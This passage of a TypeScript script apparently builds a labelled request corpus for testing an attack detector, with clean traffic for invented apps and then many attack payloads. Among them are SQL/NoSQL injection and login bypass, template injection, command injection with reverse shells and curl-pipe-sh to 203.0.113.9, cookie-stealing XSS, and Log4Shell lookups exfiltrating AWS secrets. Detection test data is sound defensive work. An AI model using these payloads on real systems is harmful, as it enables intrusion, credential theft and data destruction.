      operationName: 'AddReviewComment',
      query:
        'mutation AddReviewComment($pr: ID!, $path: String!, $line: Int!, $body: String!) { addComment(pr: $pr, path: $path, line: $line, body: $body) { id url } }',
      variables: { pr: `PR_${hex(10)}`, path: 'src/routes/tickets.ts', line: int(1, 300), body: pick(PROSE) },
    }),
    () => ({
      operationName: 'TourTracks',
      query:
        'query TourTracks($tour: ID!, $lang: String!) { tour(id: $tour) { title(lang: $lang) stops { n title(lang: $lang) audio { url durationSec } } } }',
      variables: { tour: String(int(1, 90)), lang: pick(['en', 'ja', 'fr', 'es']) },
    }),
  ];
  for (let i = 0; i < n; i++) {
    const op = pick(ops)();
    const mode = i % 5;
    if (mode <= 2) {
      addClean(
        'graphql',
        'POST',
        pick(['/graphql', '/api/graphql', '/v1/graphql']),
        jsonHeaders(),
        JSON.stringify(op),
      );
    } else if (mode === 3) {
      addClean(
        'graphql',
        'GET',
        `/graphql?${q({ query: op.query, variables: JSON.stringify(op.variables), operationName: op.operationName })}`,
        headers(),
      );
    } else {
      const ext = { persistedQuery: { version: 1, sha256Hash: hex(64) } };
      addClean(
        'graphql',
        'GET',
        `/graphql?${q({ operationName: op.operationName, variables: JSON.stringify(op.variables), extensions: JSON.stringify(ext) })}`,
        headers(),
      );
    }
  }
}

function genForm(n: number): void {
  const builders: Array<() => [string, Record<string, string>]> = [
    () => [
      '/choir/signup',
      {
        name: pick(NAMES),
        email: pick(EMAILS),
        voice: pick(['soprano', 'alto', 'tenor', 'bass', 'not sure']),
        experience: pick(PROSE),
        consent: 'on',
      },
    ],
    () => [
      '/museum/newsletter',
      { email: pick(EMAILS), lang: pick(['en', 'fr', 'de']), interests: 'glass,prints', source: 'footer' },
    ],
    () => [
      '/ortho/contact',
      {
        name: pick(NAMES),
        phone: `+1 (512) 555-${int(1000, 9999)}`,
        message: longText(1),
        preferred: pick(['call', 'text', 'email']),
      },
    ],
    () => [
      '/crm/quote-request',
      {
        address: `${int(1, 200)} ${pick(['Oak Lane', 'Rua das Flores', 'Hauptstraße', 'Chemin du Moulin'])}, ${pick(CITIES)}`,
        monthly_bill: `${int(60, 400)}`,
        roof_type: pick(['tile', 'shingle', 'metal']),
        notes: pick(PROSE),
      },
    ],
    () => [
      '/status/subscribe',
      {
        email: pick(EMAILS),
        components: pickN(SERVICES, 2).join(','),
        webhook_url: `https://hooks.${pick(['acme', 'globex', 'initech'])}.example/status?token=${hex(16)}`,
      },
    ],
    () => [
      '/cards/login',
      {
        username: pick(['mint_condition_mo', 'tcg.ryo', 'vintage-vault']),
        password: `${hex(6)}!${pick(['Sommer', 'Kanto', 'Lotus'])}#${int(10, 99)}`,
        remember: '1',
      },
    ],
    () => [
      '/tos/gate/kiosk/checkin',
      {
        plate: `${pick(['NL', 'BE'])}-${int(10, 99)}-${hex(3).toUpperCase()}`,
        pin: String(int(1000, 9999)),
        lane: String(int(1, 12)),
      },
    ],
  ];
  for (let i = 0; i < n; i++) {
    const [p, f] = pick(builders)();
    addClean(
      'form',
      'POST',
      p,
      headers({ 'content-type': 'application/x-www-form-urlencoded' }, 'text/html,application/xhtml+xml'),
      q(f),
    );
  }
}

function genMultipart(n: number): void {
  const files: Array<() => [string, string, string, string, Record<string, string>]> = [
    () => [
      '/ortho/api/photos',
      'intraoral-upper.jpg',
      'image/jpeg',
      `\xff\xd8\xff\xe0JFIF${hex(40)}`,
      { patientId: pick(PATIENTS), view: pick(['upper', 'lower', 'left buccal']) },
    ],
    () => [
      '/crm/v1/site-surveys/photos',
      'roof_south.heic',
      'image/heic',
      `ftypheic${hex(60)}`,
      { surveyId: uuid(), caption: pick(PROSE) },
    ],
    () => [
      '/crm/v1/inverter-logs/import',
      'gen24_export.csv',
      'text/csv',
      `timestamp;pac_w;udc_v;temp_c\n${isoTs()};${int(0, 6000)};${int(300, 600)};${int(20, 60)}\n${isoTs()};${int(0, 6000)};${int(300, 600)};${int(20, 60)}\n`,
      { siteId: uuid() },
    ],
    () => [
      '/choir/api/scores',
      'Faure_Cantique_SATB.pdf',
      'application/pdf',
      `%PDF-1.7\n%${hex(20)}\n1 0 obj << /Type /Catalog >> endobj\n`,
      { title: 'Cantique de Jean Racine', arranger: 'John Rutter' },
    ],
    () => [
      '/cards/api/listings/photos',
      'front_under_lamp.png',
      'image/png',
      `\x89PNG\r\n\x1a\n${hex(50)}`,
      { listingId: String(int(100000, 999999)), side: 'front' },
    ],
    () => [
      '/tos/v2/edi/upload',
      'COPRAR_inbound.edi',
      'application/edifact',
      `UNB+UNOA:2+SENDER+PORTVAL+${int(260101, 261231)}:1200+${int(1000, 9999)}'\nUNH+1+COPRAR:D:00B:UN:SMDG21'\nEQD+CN+${pick(CONTAINERS)}+45G1:102:5+2+5'\nUNT+3+1'\n`,
      { vesselVisit: uuid() },
    ],
    () => [
      '/museum/api/audio/upload',
      'room12_fr.m4a',
      'audio/mp4',
      `ftypM4A ${hex(48)}`,
      { room: String(int(1, 40)), lang: 'fr', transcript: longText(1) },
    ],
    () => [
      '/reviews/api/artifacts',
      'coverage-summary.json',
      'application/json',
      JSON.stringify({ total: { lines: { pct: 87.4 }, branches: { pct: 71.2 } } }),
      { repo: pick(REPOS), sha: hex(40) },
    ],
  ];
  for (let i = 0; i < n; i++) {
    const [p, fname, ctype, content, fields] = pick(files)();
    const boundary = `----WebKitFormBoundary${b64(hex(12)).slice(0, 16)}`;
    let body = '';
    for (const [k, v] of Object.entries(fields))
      body += `--${boundary}\r\nContent-Disposition: form-data; name="${k}"\r\n\r\n${v}\r\n`;
    body += `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${fname}"\r\nContent-Type: ${ctype}\r\n\r\n${content}\r\n--${boundary}--\r\n`;
    addClean(
      'multipart',
      'POST',
      p,
      headers({ 'content-type': `multipart/form-data; boundary=${boundary}` }),
      body,
    );
  }
}

function genNdjson(n: number): void {
  const lines: Array<() => unknown> = [
    () => ({
      ts: isoTs(),
      site: uuid().slice(0, 8),
      serial: `7.0.${int(10, 99)}-${hex(6)}`,
      pac: int(0, 6000),
      vdc: [int(300, 600), int(300, 600)],
      status: pick(['MPPT', 'Standby', 'Grid fault 104', 'Isolation error']),
    }),
    () => ({
      ts: isoTs(),
      event: pick(['DISCHARGE_COMPLETE', 'LOAD_COMPLETE', 'GATE_IN', 'GATE_OUT', 'YARD_MOVE']),
      container: pick(CONTAINERS),
      crane: `QC${int(1, 12)}`,
      by: pick(NAMES),
    }),
    () => ({
      ts: isoTs(),
      probe: pick(['api-eu', 'api-us', 'webhooks']),
      latencyMs: int(20, 3200),
      status: pick([200, 200, 200, 502, 503]),
      region: pick(['fra1', 'iad1', 'syd1']),
    }),
    () => ({
      ts: isoTs(),
      device: `guide-${int(100, 999)}`,
      track: int(1, 300),
      lang: pick(['en', 'fr', 'ja']),
      playedSec: int(1, 240),
      completed: rnd() < 0.6,
    }),
  ];
  for (let i = 0; i < n; i++) {
    const gen = pick(lines);
    const rows: string[] = [];
    for (let j = 0; j < int(3, 8); j++) rows.push(JSON.stringify(gen()));
    addClean(
      'ndjson',
      'POST',
      pick([
        '/ingest/v1/events',
        '/crm/v1/inverter-logs/stream',
        '/tos/v2/events/bulk',
        '/status/v1/probes/results',
      ]),
      jsonHeaders('application/x-ndjson'),
      rows.join('\n') + '\n',
    );
  }
}

function genDelete(n: number): void {
  const paths: Array<() => string> = [
    () => `/tos/v2/gate/appointments/${uuid()}`,
    () => `/tos/v2/customs/holds/${int(10000, 99999)}?${q({ reason: 'released by broker' })}`,
    () => `/ortho/api/appointments/${uuid()}`,
    () => `/crm/v1/leads/${uuid()}/attachments/${hex(12)}`,
    () => `/choir/api/events/${int(1, 900)}/rsvp`,
    () => `/status/v1/subscribers/${uuid()}`,
    () => `/museum/api/cart/items/${int(1, 20)}`,
    () => `/cards/api/listings/${int(100000, 999999)}`,
    () => `/reviews/api/repos/${pick(REPOS)}/comments/${int(1000000, 9999999)}`,
  ];
  for (let i = 0; i < n; i++) addClean('delete', 'DELETE', pick(paths)(), headers());
}

const HTML_SNIPPETS = [
  '<h2>Opening hours over the holidays</h2><p>The museum is <strong>closed on 25 December</strong> and opens at 12:00 on 1 January.</p>',
  '<p>Join us for <em>Lessons &amp; Carols</em> — doors open 18:15. <a href="https://choirplan.example/e/advent">Reserve a seat</a>.</p>',
  '<ul><li>Brush after every meal</li><li>Wear aligners 22 h/day</li><li>Clean them with cool water, <b>never hot</b></li></ul>',
  '<figure><img src="https://cdn.museo-vidrio.example/img/goblet-1620.jpg" alt="Enamelled goblet, Murano, c. 1620" width="640" height="480"><figcaption>Enamelled goblet, c. 1620</figcaption></figure>',
  '<blockquote cite="https://status.acme.example/incidents/x91">We sincerely apologise for the disruption this caused.</blockquote><p>— The SRE team</p>',
  '<table><thead><tr><th>System</th><th>kWp</th><th>Price</th></tr></thead><tbody><tr><td>Starter</td><td>4.3</td><td>€7 990</td></tr><tr><td>Family</td><td>8.6</td><td>€13 450</td></tr></tbody></table>',
  '<p style="text-align:center"><span style="color:#b00020">Hazmat (IMDG class 9)</span> boxes must be pre-advised 24 h before gate-in.</p>',
  '<h3>Grading scale</h3><ol><li>10 — Gem Mint</li><li>9 — Mint</li><li>8 — NM-MT</li></ol><p>See our <a href="/help/grading" target="_blank" rel="noopener">grading guide</a>.</p>',
  '<p>Audio stop 14: <audio controls src="https://cdn.museum.example/audio/fr/14.m4a"></audio></p><p lang="fr">Écoutez le souffleur de verre…</p>',
  '<pre><code class="language-diff">- const limit = 10;\n+ const limit = Number(process.env.LIMIT ?? 10);</code></pre><p>Suggested by reviewbot.</p>',
  '<p>日本語ガイドは<strong>3階</strong>の受付でお貸しします。</p><iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" width="560" height="315" allowfullscreen></iframe>',
  '<div class="callout warning"><p>Choir robes must be returned by <time datetime="2026-06-30">30 June</time>.</p></div>',
];

function genCmsHtml(n: number): void {
  for (let i = 0; i < n; i++) {
    const html = pickN(HTML_SNIPPETS, int(2, 4)).join('\n');
    const base = pick([
      ['/museum/api/cms/pages', 'museum'],
      ['/choir/api/newsletters', 'choir'],
      ['/ortho/api/cms/care-guides', 'ortho'],
      ['/status/v1/pages/acme/announcements', 'status'],
      ['/crm/v1/proposal-templates', 'crm'],
      ['/cards/api/cms/guides', 'cards'],
    ] as const);
    const body = {
      article: {
        title: pick([
          'Holiday hours',
          'Aligner care',
          'December newsletter',
          'Post-incident report',
          'How grading works',
          'Proposal cover page',
        ]),
        slug: `${base[1]}-${hex(5)}`,
        locale: pick(['en-GB', 'fr-FR', 'ja-JP']),
        bodyHtml: html,
        excerpt: pick(PROSE),
      },
      publish: rnd() < 0.5,
      tags: pickN(['news', 'help', 'events', 'faq', 'policy'], 2),
    };
    addClean('cms-html', rnd() < 0.7 ? 'POST' : 'PUT', base[0], jsonHeaders(), JSON.stringify(body));
  }
}

const CODE_SNIPPETS = [
  "const rows = await db.query('SELECT id, name FROM berths WHERE terminal_id = $1 ORDER BY name', [terminalId]);",
  'for f in dist/*.js; do gzip -k "$f"; done && rm -rf .cache/',
  'if (user.role === "admin" || user.permissions.includes("incidents:write")) {\n  return next();\n}',
  "DELETE FROM sessions WHERE expires_at < now() - interval '7 days';",
  "import { z } from 'zod';\nexport const Listing = z.object({ title: z.string().max(120), price: z.number().int() });",
  'def kwh(pac_w: list[float], step_s: int = 300) -> float:\n    return sum(pac_w) * step_s / 3_600_000',
  'apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: audio-guide\nspec:\n  replicas: 3',
  '<template>\n  <div v-for="stop in tour.stops" :key="stop.id">{{ stop.title }}</div>\n</template>',
  'curl -H "Authorization: Bearer $TOKEN" https://api.statusrelay.example/v1/incidents | jq \'.[] | .title\'',
  'location /api/ {\n  proxy_pass http://127.0.0.1:8080;\n  proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;\n}',
  'func (s *Server) Hold(ctx context.Context, id string) error {\n\treturn s.db.ExecContext(ctx, "UPDATE holds SET active = true WHERE id = ?", id)\n}',
  'const html = `<li>${escapeHtml(member.name)}</li>`;',
  "{{#each events}}\n  <li>{{title}} — {{formatDate start 'short'}}</li>\n{{/each}}",
  'FROM node:22-alpine\nWORKDIR /app\nCOPY package*.json ./\nRUN npm ci --omit=dev\nCMD ["node", "server.js"]',
  "SELECT c.set_name, avg(l.price_cents) FROM listings l JOIN cards c ON c.id = l.card_id GROUP BY 1 HAVING count(*) > 10 UNION ALL SELECT 'total', avg(price_cents) FROM listings;",
  'Object.assign(target, JSON.parse(raw)); // raw was validated by the schema above',
  'const path = require("path");\nconst file = path.join(__dirname, "..", "fixtures", name);',
  'while read -r line; do echo "${line%%,*}"; done < members.csv',
];

function genCode(n: number): void {
  for (let i = 0; i < n; i++) {
    if (i % 2 === 0) {
      const body = {
        repo: pick(REPOS),
        pullNumber: int(1, 4000),
        comment: {
          path: pick([
            'src/db/holds.ts',
            'scripts/build.sh',
            'deploy/k8s.yaml',
            'app/solar.py',
            'web/Tour.vue',
          ]),
          line: int(1, 500),
          side: 'RIGHT',
          body: pick(PROSE),
        },
        suggestion: {
          language: pick(['typescript', 'bash', 'sql', 'yaml', 'python', 'go']),
          code: pickN(CODE_SNIPPETS, int(1, 2)).join('\n\n'),
        },
      };
      addClean('code', 'POST', '/reviews/api/suggestions', jsonHeaders(), JSON.stringify(body));
    } else {
      const body = {
        snippet: {
          title: pick([
            'Gate kiosk nginx',
            'Inverter kWh helper',
            'Choir CSV import',
            'Status webhook example',
            'Listing schema',
          ]),
          language: pick(['shell', 'sql', 'ts', 'yaml', 'nginx', 'dockerfile']),
          source: pickN(CODE_SNIPPETS, int(1, 3)).join('\n\n'),
        },
        visibility: pick(['team', 'private']),
        description: pick(PROSE),
      };
      addClean(
        'code',
        rnd() < 0.8 ? 'POST' : 'PUT',
        `/reviews/api/snippets${rnd() < 0.3 ? `/${uuid()}` : ''}`,
        jsonHeaders(),
        JSON.stringify(body),
      );
    }
  }
}

function genProse(n: number): void {
  const builders: Array<() => [string, unknown]> = [
    () => ['/ortho/api/messages', { patientId: pick(PATIENTS), body: longText(int(1, 3)) }],
    () => [
      '/choir/api/announcements',
      {
        title: pick(['Rehearsal change', 'Robes', 'Concert logistics', 'Thank you!']),
        text: longText(int(2, 4)),
        audience: pick(['all', 'sopranos', 'basses']),
      },
    ],
    () => [
      '/museum/api/feedback',
      {
        rating: int(1, 5),
        comment: longText(int(1, 3)),
        visitor: { name: pick(NAMES), email: pick(EMAILS) },
      },
    ],
    () => [
      `/status/v1/incidents/${uuid()}/postmortem`,
      { summary: longText(3), impact: longText(1), actionItems: [pick(PROSE), pick(PROSE)] },
    ],
    () => [
      `/cards/api/listings/${int(100000, 999999)}/questions`,
      { question: pick(PROSE), from: pick(['mint_condition_mo', 'tcg.ryo']) },
    ],
    () => [
      `/tos/v2/containers/${pick(CONTAINERS)}/notes`,
      { text: longText(2), visibility: pick(['internal', 'shipping_line']) },
    ],
    () => [
      `/crm/v1/leads/${uuid()}/activities`,
      { type: pick(['call', 'visit', 'email']), summary: longText(2), followUp: isoDate() },
    ],
    () => [
      `/reviews/api/threads/${uuid()}/replies`,
      { body: longText(int(1, 2)), author: pick(['reviewbot', 'anna-k', 'tmüller']) },
    ],
  ];
  for (let i = 0; i < n; i++) {
    const [p, b] = pick(builders)();
    addClean('prose', 'POST', p, jsonHeaders(), JSON.stringify(b));
  }
}

const SEARCH_TERMS = [
  'reefer alarm',
  'MSCU4821736',
  'hold CBP exam',
  "O'Sullivan",
  'retainer cracked',
  'Invisalign vs braces',
  'Fronius error 567',
  'inverter "grid fault"',
  'permit Travis County',
  'Fauré Requiem',
  'Ave Maria (Biebl)',
  'Dvořák Mass in D',
  'select hymns Advent',
  '502 errors webhook',
  'drop in latency',
  'union station',
  'Murano glass',
  'ukiyo-e Hokusai',
  '北斎',
  'exposición vidrio',
  'Charizard 1st edition PSA 10',
  'black lotus alpha',
  'pokémon jp promo',
  '"shadowless" base set',
  'null pointer review',
  'rm -rf node_modules',
  'where clause index',
  'Kyrie eleison',
  'Café oat milk',
  'wheelchair access',
  'Größe XL Robe',
  'ブレース 痛み',
  '성가대 연습',
  'кросс-док',
  'solar + battery < 10k',
  'price <= 200 USD',
  'order by date',
  'C# & .NET',
  '50% off',
  'Ex-display card #12/102',
];

function genSearch(n: number): void {
  const routes = [
    '/tos/v2/search',
    '/ortho/api/help/search',
    '/crm/v1/search',
    '/choir/api/search',
    '/status/v1/search',
    '/museum/api/search',
    '/cards/api/search',
    '/reviews/api/search',
  ];
  for (let i = 0; i < n; i++) {
    const params: Record<string, string | number> = { q: pick(SEARCH_TERMS) };
    if (rnd() < 0.5) params['page'] = int(1, 12);
    if (rnd() < 0.4) params['sort'] = pick(['relevance', '-date', 'price_asc']);
    if (rnd() < 0.3) params['lang'] = pick(['en', 'de', 'ja', 'ko', 'es']);
    addClean('search', 'GET', `${pick(routes)}?${q(params)}`, headers());
  }
}

genRestGet(45);
genRestWrite(40);
genMergePatch(24);
genJsonPatch(24);
genJsonApi(24);
genGraphql(35);
genForm(26);
genMultipart(20);
genNdjson(20);
genDelete(20);
genCmsHtml(30);
genCode(30);
genProse(45);
genSearch(40);

// ---------------------------------------------------------------------------------------------------------
// Attacks
// ---------------------------------------------------------------------------------------------------------

const attacks: CorpusRequest[] = [];

/** Where and how an attack payload is placed in a request. */
type Placement = (payload: string) => {
  method: string;
  path: string;
  headers: Record<string, string>;
  body: string;
};

/** JSON.stringify with the given characters rewritten as \\uXXXX escapes inside string literals. */
function jsonEscaped(value: unknown, chars: string): string {
  return JSON.stringify(value).replace(/[\s\S]/g, (c) =>
    chars.includes(c) ? `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}` : c,
  );
}

const PLACEMENTS: Record<string, Placement> = {
  nested: (p) => ({
    method: 'POST',
    path: '/cards/api/listings',
    headers: jsonHeaders(),
    body: JSON.stringify({
      title: 'Blastoise — Base Set',
      price: { amount: 12900, currency: 'USD' },
      grade: { company: 'PSA', notes: { surface: p } },
    }),
  }),
  array: (p) => ({
    method: 'PUT',
    path: `/choir/api/setlists/${int(1, 500)}`,
    headers: jsonHeaders(),
    body: JSON.stringify({ items: [{ title: 'Cantique de Jean Racine' }, { title: p, key: 'D major' }] }),
  }),
  query: (p) => ({
    method: 'GET',
    path: `/tos/v2/containers?${q({ status: 'on_hold', owner: p, limit: 50 })}`,
    headers: headers(),
    body: '',
  }),
  header: (p) => ({
    method: 'GET',
    path: `/museum/api/timeslots?${q({ date: isoDate() })}`,
    headers: headers({ 'x-client-tracking': p }),
    body: '',
  }),
  useragent: (p) => ({
    method: 'GET',
    path: `/status/v1/components?${q({ days: 30 })}`,
    headers: { ...headers(), 'user-agent': p },
    body: '',
  }),
  uescape: (p) => ({
    method: 'POST',
    path: '/ortho/api/messages',
    headers: jsonHeaders(),
    body: jsonEscaped({ patientId: pick(PATIENTS), subject: 'Reschedule', body: p }, '<>\'"$&;/{}()|='),
  }),
  jsonstring: (p) => ({
    method: 'POST',
    path: '/crm/v1/webhooks/inbound',
    headers: jsonHeaders(),
    body: JSON.stringify({
      source: 'zapier',
      payload: JSON.stringify({ lead: { name: 'Test', address: p } }),
    }),
  }),
  base64: (p) => ({
    method: 'POST',
    path: '/tos/v2/edi/messages',
    headers: jsonHeaders(),
    body: JSON.stringify({ format: 'COPARN', encoding: 'base64', data: b64(p) }),
  }),
  graphql: (p) => ({
    method: 'POST',
    path: '/graphql',
    headers: jsonHeaders(),
    body: JSON.stringify({
      operationName: 'Listings',
      query:
        'query Listings($f: ListingFilter) { listings(filter: $f, first: 24) { edges { node { id title } } } }',
      variables: { f: { set: p, minGrade: 8 } },
    }),
  }),
  jsonapi: (p) => ({
    method: 'POST',
    path: '/crm/jsonapi/notes',
    headers: jsonHeaders('application/vnd.api+json'),
    body: JSON.stringify({ data: { type: 'notes', attributes: { body: p } } }),
  }),
  form: (p) => ({
    method: 'POST',
    path: '/choir/signup',
    headers: headers({ 'content-type': 'application/x-www-form-urlencoded' }),
    body: q({ name: 'Mia', email: 'mia@example.org', voice: p }),
  }),
  mergepatch: (p) => ({
    method: 'PATCH',
    path: `/status/v1/components/${uuid()}`,
    headers: jsonHeaders('application/merge-patch+json'),
    body: JSON.stringify({ description: p }),
  }),
};

function addAttack(
  family: string,
  technique: string,
  placement: string,
  payload: string,
  override?: ReturnType<Placement>,
): void {
  const place = PLACEMENTS[placement];
  if (!place && !override) throw new Error(`unknown placement ${placement}`);
  const r = override ?? (place as Placement)(payload);
  attacks.push({
    id: `h30a${attacks.length + 1}`,
    kind: 'attack',
    family,
    technique: `${technique} (${placement})`,
    ...r,
  });
}

const PLACE_ORDER = [
  'nested',
  'array',
  'query',
  'header',
  'uescape',
  'jsonstring',
  'base64',
  'graphql',
  'jsonapi',
  'form',
  'mergepatch',
  'useragent',
];
/** Adds exactly 30 attacks for one family by cycling payloads over placements. */
function family(
  name: string,
  payloads: Array<[string, string]>,
  custom: Array<[string, ReturnType<Placement>]> = [],
): void {
  const before = attacks.length;
  for (const [tech, req] of custom) addAttack(name, tech, 'custom', '', req);
  let i = 0;
  while (attacks.length - before < 30 && payloads.length > 0) {
    const [tech, payload] = payloads[i % payloads.length] as [string, string];
    const placement = PLACE_ORDER[(i + name.length) % PLACE_ORDER.length] as string;
    addAttack(name, tech, placement, payload);
    i++;
  }
}

family(
  'sql',
  [
    ['tautology', "' OR '1'='1' -- "],
    ['union select', "x' UNION SELECT username, password_hash, NULL FROM users-- -"],
    ['stacked query', '1; DROP TABLE listings;--'],
    ['time-based blind', "1' AND SLEEP(5)-- "],
    ['pg_sleep blind', "'||(SELECT pg_sleep(10))||'"],
    ['error-based extractvalue', "' AND extractvalue(1,concat(0x7e,(SELECT version())))-- "],
    [
      'inline comment evasion',
      "1'/**/UnIoN/**/SeLeCt/**/1,table_name,3/**/FrOm/**/information_schema.tables#",
    ],
    ['boolean blind substring', "admin' AND SUBSTRING((SELECT password FROM users LIMIT 1),1,1)='a"],
    ['mssql waitfor', "'; WAITFOR DELAY '0:0:5'--"],
    ['order by probing', 'name ORDER BY 9-- -'],
    ['numeric tautology', '0 or 1=1'],
    ['benchmark blind', '1 AND BENCHMARK(5000000,MD5(1))'],
  ],
  [
    [
      'sqli in sort parameter',
      {
        method: 'GET',
        path: `/cards/api/listings?${q({ sort: 'price,(select case when (1=1) then 1 else 1/0 end)' })}`,
        headers: headers(),
        body: '',
      },
    ],
    [
      'sqli in JSON key',
      {
        method: 'POST',
        path: '/reviews/api/search',
        headers: jsonHeaders(),
        body: JSON.stringify({ filter: { "severity' OR 1=1--": 'error' } }),
      },
    ],
    [
      'sqli in json-patch value',
      {
        method: 'PATCH',
        path: `/tos/v2/vessel-visits/${uuid()}`,
        headers: jsonHeaders('application/json-patch+json'),
        body: JSON.stringify([
          { op: 'replace', path: '/berth', value: "B01' UNION SELECT api_key FROM tokens--" },
        ]),
      },
    ],
    [
      'double-encoded union',
      {
        method: 'GET',
        path: '/museum/api/orders?email=x%2527%2520UNION%2520SELECT%2520card_number%2520FROM%2520payments--',
        headers: headers(),
        body: '',
      },
    ],
  ],
);

family(
  'nosql',
  [
    ['operator injection $ne', JSON.stringify({ $ne: null })],
    ['$where javascript', "'; return this.password.length > 0; var x='"],
    ['$regex wildcard', JSON.stringify({ $regex: '.*' })],
    ['$gt empty', JSON.stringify({ $gt: '' })],
    ['$where sleep', JSON.stringify({ $where: 'sleep(5000) || true' })],
    [
      '$function server js',
      JSON.stringify({ $expr: { $function: { body: 'function(){return true}', args: [], lang: 'js' } } }),
    ],
  ],
  [
    [
      '$ne login bypass',
      {
        method: 'POST',
        path: '/cards/api/auth/login',
        headers: jsonHeaders(),
        body: JSON.stringify({ username: 'admin', password: { $ne: 'x' } }),
      },
    ],
    [
      '$gt login bypass',
      {
        method: 'POST',
        path: '/ortho/api/auth/login',
        headers: jsonHeaders(),
        body: JSON.stringify({ email: { $gt: '' }, password: { $gt: '' } }),
      },
    ],
    [
      '$regex credential extraction',
      {
        method: 'POST',
        path: '/choir/api/auth/login',
        headers: jsonHeaders(),
        body: JSON.stringify({ username: 'director', password: { $regex: '^a' } }),
      },
    ],
    [
      '$where in filter',
      {
        method: 'POST',
        path: '/tos/v2/containers/query',
        headers: jsonHeaders(),
        body: JSON.stringify({
          filter: { $where: 'function(){ return this.holds.length >= 0 }' },
          limit: 500,
        }),
      },
    ],
    [
      'bracket operator in query string',
      {
        method: 'GET',
        path: '/cards/api/sellers?username[$ne]=x&password[$ne]=x',
        headers: headers(),
        body: '',
      },
    ],
    [
      'bracket regex in query string',
      {
        method: 'GET',
        path: '/status/v1/subscribers?email[$regex]=.*&confirmed=true',
        headers: headers(),
        body: '',
      },
    ],
    [
      '$lookup aggregation stage',
      {
        method: 'POST',
        path: '/crm/v1/reports/aggregate',
        headers: jsonHeaders(),
        body: JSON.stringify({
          pipeline: [
            { $match: { stage: 'won' } },
            { $lookup: { from: 'users', localField: 'owner', foreignField: '_id', as: 'u' } },
          ],
        }),
      },
    ],
    [
      '$or always-true in graphql vars',
      {
        method: 'POST',
        path: '/graphql',
        headers: jsonHeaders(),
        body: JSON.stringify({
          query: 'query Members($f: JSON) { members(filter: $f) { id email phone } }',
          variables: { f: { $or: [{ _id: { $exists: true } }, { a: 1 }] } },
        }),
      },
    ],
    [
      'unicode-escaped $ne',
      {
        method: 'POST',
        path: '/museum/api/auth/login',
        headers: jsonHeaders(),
        body: '{"email":"admin@museum.example","password":{"\\u0024ne":"nope"}}',
      },
    ],
    [
      '$nin in merge patch filter',
      {
        method: 'PATCH',
        path: '/reviews/api/bots/bulk',
        headers: jsonHeaders('application/merge-patch+json'),
        body: JSON.stringify({ where: { owner: { $nin: [] } }, set: { autoApprove: true } }),
      },
    ],
  ],
);

family('template', [
  ['jinja2 class walk', "{{ ''.__class__.__mro__[1].__subclasses__() }}"],
  ['jinja2 os popen', "{{ cycler.__init__.__globals__.os.popen('id').read() }}"],
  ['twig filter exec', "{{['id']|filter('system')}}"],
  ['freemarker execute', '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}'],
  ['velocity runtime', "#set($x=$class.inspect('java.lang.Runtime').type.getRuntime().exec('id'))$x"],
  ['spring EL', "${T(java.lang.Runtime).getRuntime().exec('cat /etc/passwd')}"],
  [
    'handlebars constructor',
    '{{#with "s" as |string|}}{{#with string.constructor}}{{#with (bind this \'return process\')}}{{this}}{{/with}}{{/with}}{{/with}}',
  ],
  ['erb system', "<%= system('id') %>"],
  ['jinja2 config leak', '{{ config.items() }}'],
  ['thymeleaf preprocessing', "__${T(java.lang.Runtime).getRuntime().exec('whoami')}__::.x"],
  [
    'nunjucks constructor',
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
  ],
  [
    'pug code',
    "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad('child_process').exec('id')}()}",
  ],
  ['smarty php tag', '{php}echo `id`;{/php}'],
  ['mako expression', "${self.module.cache.util.os.system('id')}"],
]);

family('command', [
  ['semicolon chaining', '8.8.8.8; cat /etc/passwd'],
  ['pipe to shell', 'report.csv | nc 203.0.113.9 4444 -e /bin/sh'],
  ['backtick substitution', 'inverter-`id`.log'],
  ['dollar-paren substitution', '$(curl -s http://203.0.113.9/x.sh | sh)'],
  ['and-chaining', 'main && wget http://203.0.113.9/m -O /tmp/m && chmod +x /tmp/m && /tmp/m'],
  ['newline injection', 'PORTVAL\nrm -rf / --no-preserve-root'],
  ['IFS evasion', ';cat${IFS}/etc/shadow'],
  ['quoted evasion', ";c'a't /e\"t\"c/pa''sswd"],
  ['powershell', '& powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA='],
  ['bash reverse shell', 'x; bash -i >& /dev/tcp/203.0.113.9/443 0>&1'],
  ['or-chaining sleep', 'a || sleep 10 ||'],
  ['windows cmd', '| type C:\\Windows\\win.ini'],
  ['wildcard path evasion', '; /???/??t /???/p??s??'],
  ['git option injection', '--upload-pack=touch /tmp/pwned'],
]);

family('xss', [
  ['script tag', '<script>fetch("https://203.0.113.9/c?"+document.cookie)</script>'],
  ['img onerror', '<img src=x onerror=alert(document.domain)>'],
  ['svg onload', '<svg/onload=alert`1`>'],
  ['javascript uri', 'javascript:alert(1)//'],
  ['iframe srcdoc', '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>'],
  ['attribute breakout', '" autofocus onfocus="alert(1)" x="'],
  ['details ontoggle', '<details open ontoggle=prompt(1)>'],
  ['entity-encoded javascript uri', '<a href="&#106;avascript:alert(1)">grading guide</a>'],
  ['mixed case script', '<ScRiPt>eval(atob("YWxlcnQoMSk="))</sCrIpT>'],
  ['body onload', '<body onload=location="//203.0.113.9/?"+document.cookie>'],
  ['math href', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>'],
  ['template literal breakout', '`;alert(document.cookie);//'],
  ['data uri', '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>'],
]);

family(
  'log4shell',
  [
    ['plain jndi ldap', '${jndi:ldap://203.0.113.9:1389/a}'],
    ['lower lookup', '${${lower:j}ndi:${lower:l}dap://203.0.113.9/x}'],
    ['default-value obfuscation', '${${::-j}${::-n}${::-d}${::-i}:${::-r}mi://203.0.113.9/o}'],
    ['env lookup nested', '${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.x.203-0-113-9.example}'],
    ['upper lookup', '${${upper:j}${upper:n}${upper:d}${upper:i}:ldaps://203.0.113.9/a}'],
    ['date lookup trick', "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://203.0.113.9/a}"],
